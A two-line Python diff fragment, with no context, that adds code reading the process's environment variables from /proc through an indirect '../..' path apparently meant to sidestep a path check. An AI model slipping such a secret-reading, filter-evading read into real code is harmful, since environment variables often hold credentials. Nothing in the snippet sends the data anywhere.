@@ -1,0 +1,2 @@
+import os
+out = open(f"/proc/{os.getpid()}/task/{os.getpid()}/../../environ").read()
